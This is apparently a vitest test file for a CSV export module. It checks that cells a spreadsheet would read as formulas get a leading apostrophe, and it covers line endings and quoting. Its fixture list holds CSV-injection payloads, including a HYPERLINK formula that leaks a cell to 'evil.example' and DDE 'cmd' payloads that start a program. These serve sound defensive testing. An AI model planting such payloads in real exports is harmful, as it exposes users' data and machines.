import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cellOf, csvLines, number, plain, text } from './csv.ts'

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

/** What any reader might take for the end of a line. */
const ANY_LINE_END = ['\r\n', '\n', '\r']

const cell = (value: string | null, column = text<string | null>((row) => row)) => cellOf(column, value)

describe('a cell that a spreadsheet would take for a formula', () => {
  test.each(FORMULAS)('is a text: %j', (value) => {
    expect(cell(value)).toBe(`'${value}`)
    const [[read]] = parse(csvLines([[cell(value)]]), { record_delimiter: ANY_LINE_END }) as [[string]]
    expect(read).toBe(`'${value}`)
  })

  test.each(['-12.50', '-5', '0', '1000000000000000000', '12.5'])('is none when it is the plain number %s of a column of numbers', (value) => {
    expect(cell(value, number((row) => row))).toBe(value)
  })

  test.each(['-12.50', '+84 90 123 45 67', '-'])('is one in a column of texts: %s', (value) => {
    expect(cell(value)).toBe(`'${value}`)
  })

  test.each(['-1+1', '-', '--1', '=1', '-1e5', '-1,5', '- 1', '-1\n', '+1'])('is one in a column of numbers that holds no plain number: %j', (value) => {
    expect(cell(value, number((row) => row))).toBe(`'${value}`)
  })

  test.each(['', 'a=1', ' ', 'Nguyễn', '12', 'x-1', "'=1"])('is nothing else: %j', (value) => expect(plain(value)).toBe(value))

  test('never gets into a file, whatever people write', () => {
    const anything = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom(...FORMULAS, '"', ',', '\r\n', '', '-1'))
    fc.assert(
      fc.property(fc.array(fc.array(anything, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 }), (rows) => {
        const cells = rows.map((row) => row.map((value) => cell(value)))
        const read: string[][] = parse(csvLines(cells), { record_delimiter: ANY_LINE_END })
        expect(read).toEqual(cells)
        expect(read.flat().filter((value) => /^[=+\-@\t\r\n＝＋－＠]/.test(value))).toEqual([])
        // Nobody's text is lost: with the apostrophe taken off it is what was there.
        expect(read.map((row, at) => row.map((value, column) => (value === rows[at]?.[column] ? value : value.slice(1))))).toEqual(rows)
      }),
    )
  })
})

describe('lines', () => {
  test('end in CRLF, and quote what has to be quoted', () => {
    expect(csvLines([['a', 'b,c', 'say "x"'], ['1\n2', '', '3\r4']])).toBe('a,"b,c","say ""x"""\r\n"1\n2",,"3\r4"\r\n')
  })

  test('of one empty cell are no empty lines, which readers would skip', () => {
    expect(parse(csvLines([['name'], [''], ['x']]), { record_delimiter: ANY_LINE_END, skip_empty_lines: true })).toEqual([['name'], [''], ['x']])
  })

  test('of nothing are nothing', () => expect(csvLines([])).toBe(''))
})
